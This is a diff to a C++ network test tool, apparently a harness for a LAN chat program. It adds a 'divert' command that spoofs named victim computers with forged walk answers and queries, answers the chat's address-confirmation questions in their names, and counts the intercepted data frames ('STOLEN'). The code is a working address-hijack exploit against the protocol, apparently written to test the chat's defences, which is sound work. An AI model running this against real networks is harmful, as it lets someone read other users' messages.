@@ -52,6 +52,14 @@
 //       the computer VICTIM to the computer NAME, to ADDRESS; with --sequence, its terminal
 //       header's sequence number replaced. Prints "REPLAYED <bytes>", or "ERROR nothing to
 //       replay" and exits with 2.
+//   dgram_tool divert VICTIM[,VICTIM...] ADDRESS[:PORT] --target NAME [--group G]
+//                     [--timeout-ms N]
+//       Tries to take the address of each VICTIM at the copy at ADDRESS (computer NAME):
+//       from an endpoint of its own on the chat's port it sends there, in each victim's
+//       name, a walk answer, then a walk query every 200 ms, and answers every walk query
+//       that reaches it (the copy's question that confirms an address) in the name of
+//       each victim in turn. Prints "DIVERTING", then at the end (SIGTERM or the timeout,
+//       default 10000) "STOLEN <victim> <n>" with the data frames it received for it.
 //   dgram_tool find FILE TEXT
 //       Counts where TEXT stands in FILE (a capture) as the chat puts a plain text on the
 //       wire (encoded) and as it is. Prints "FOUND <n>".
@@ -108,7 +116,7 @@ void say(const QString& line) {
 
 [[noreturn]] void usage() {
     std::fprintf(stderr,
-                 "usage: dgram_tool recv|send|walk|flood|copies|capture|forge|replay ...\n");
+                 "usage: dgram_tool recv|send|walk|flood|copies|capture|forge|replay|divert ...\n");
     std::exit(64);
 }
 
@@ -780,6 +788,90 @@ int replay(QStringList args) {
     return 0;
 }
 
+int divert(QStringList args) {
+    const QString target = option(args, QStringLiteral("--target"), QString());
+    const QByteArray group = toWire(option(args, QStringLiteral("--group"), "WORKGROUP"));
+    const int timeout =
+        option(args, QStringLiteral("--timeout-ms"), QStringLiteral("10000")).toInt();
+    if (args.size() != 2 || target.isEmpty())
+        usage();
+    QList<QByteArray> victims;
+    for (const QString& victim : args[0].split(QLatin1Char(','), Qt::SkipEmptyParts))
+        victims.append(wireName(victim));
+    const auto to = Ipv4Endpoint::parse(args[1], kDefaultDatagramPort);
+    if (victims.isEmpty() || !to)
+        usage();
+    const quint16 port = kDefaultDatagramPort;
+
+    const int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+    if (fd < 0)
+        throw SystemError(errno);
+    sockaddr_in any{};
+    any.sin_family = AF_INET;
+    any.sin_port = htons(port);
+    if (::bind(fd, reinterpret_cast<const sockaddr*>(&any), sizeof any) != 0)
+        throw SystemError(errno);
+    sockaddr_in copy{};
+    copy.sin_family = AF_INET;
+    copy.sin_addr.s_addr = htonl(to->address);
+    copy.sin_port = htons(to->port);
+    const auto sendTo = [fd](const QByteArray& bytes, const sockaddr_in& address) {
+        ::sendto(fd, bytes.constData(), size_t(bytes.size()), MSG_NOSIGNAL,
+                 reinterpret_cast<const sockaddr*>(&address), sizeof address);
+    };
+    const QByteArray wireTarget = wireName(target);
+    QHash<QByteArray, long> stolen;
+    std::signal(SIGTERM, onTerminate);
+    std::signal(SIGINT, onTerminate);
+    say(QStringLiteral("DIVERTING"));
+    const auto deadline = steady_clock::now() + milliseconds(timeout);
+    // Once: the copy looks at only as many walk answers as it asked questions, so more
+    // would spend the answers its questions wait for.
+    for (const QByteArray& victim : victims)
+        sendTo(walkAnswerFrame(port, wireTarget, victim, group, QByteArray("\x01\x02\x03\x04", 4)),
+               copy);
+    auto nextClaim = steady_clock::now();
+    qsizetype turn = 0;
+    std::vector<char> packet(65536);
+    while (!g_stop && steady_clock::now() < deadline) {
+        if (steady_clock::now() >= nextClaim) {
+            for (const QByteArray& victim : victims) {
+                QByteArray query("KVD\x01\x02", 5);
+                query += char(port >> 8);
+                query += char(port & 0xFF);
+                query += nameField("") + nameField("") + nameField(victim) + nameField(group);
+                query += QByteArray("\x5A\x5A\x5A\x5A", 4);
+                sendTo(query, copy);
+            }
+            nextClaim = steady_clock::now() + milliseconds(200);
+        }
+        pollfd p{fd, POLLIN, 0};
+        if (::poll(&p, 1, 50) <= 0)
+            continue;
+        sockaddr_in from{};
+        socklen_t length = sizeof from;
+        const ssize_t size = ::recvfrom(fd, packet.data(), packet.size(), MSG_DONTWAIT,
+                                        reinterpret_cast<sockaddr*>(&from), &length);
+        if (size < 0)
+            continue;
+        const auto frame = parseFrame(QByteArrayView(packet.data(), size));
+        if (!frame)
+            continue;
+        if (frame->type == 2) { // a question: answered in a victim's name
+            const QByteArray& victim = victims[turn++ % victims.size()];
+            sendTo(walkAnswerFrame(port, frame->computer, victim, group, frame->body), from);
+            continue;
+        }
+        for (const QByteArray& victim : victims)
+            if (frame->type == 1 && sameWireName(frame->target, victim))
+                ++stolen[victim];
+    }
+    ::close(fd);
+    for (const QByteArray& victim : victims)
+        say(QStringLiteral("STOLEN %1 %2").arg(fromWire(victim)).arg(stolen.value(victim)));
+    return 0;
+}
+
 int find(QStringList args) {
     if (args.size() != 2)
         usage();
@@ -820,6 +912,8 @@ int main(int argc, char** argv) {
             return replay(args);
         if (command == QLatin1String("find"))
             return find(args);
+        if (command == QLatin1String("divert"))
+            return divert(args);
         UdpNetwork network(UdpNetworkConfig::fromEnvironment());
         if (command == QLatin1String("recv"))
             return receive(network, args);
